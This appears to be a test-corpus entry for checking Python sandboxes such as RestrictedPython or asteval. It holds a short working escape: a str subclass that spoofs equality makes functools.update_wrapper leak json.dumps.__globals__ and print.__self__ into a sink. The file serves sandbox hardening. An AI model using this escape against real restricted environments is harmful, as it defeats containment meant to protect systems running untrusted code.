# technique: functools.update_wrapper(sink, json.dumps, assigned=(S('__globals__'),)) with S a str subclass whose __eq__ says it is one of WRAPPER_ASSIGNMENTS; a sink class made by dataclasses.make_dataclass(namespace={'__setattr__': ...}) captures the value
# source: RestrictedPython / asteval advisory class: string-typed attribute names checked by equality (str subclass spoofing)

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import functools, json, dataclasses


class S(str):
    def __eq__(self, other):
        return True

    def __hash__(self):
        return str.__hash__(self)


got = []


def cap(self, k, v):
    got.append(v)

Sink = dataclasses.make_dataclass('Sink', [], namespace={dn('setattr'): cap})


def steal(obj, name):
    got.clear()
    functools.update_wrapper(Sink(), obj, assigned=(S(name),), updated=())
    return got[0]

attempt('update_wrapper(S) json.dumps globals', lambda: steal(json.dumps, dn('globals')))
attempt('update_wrapper(S) print self', lambda: steal(print, dn('self')))
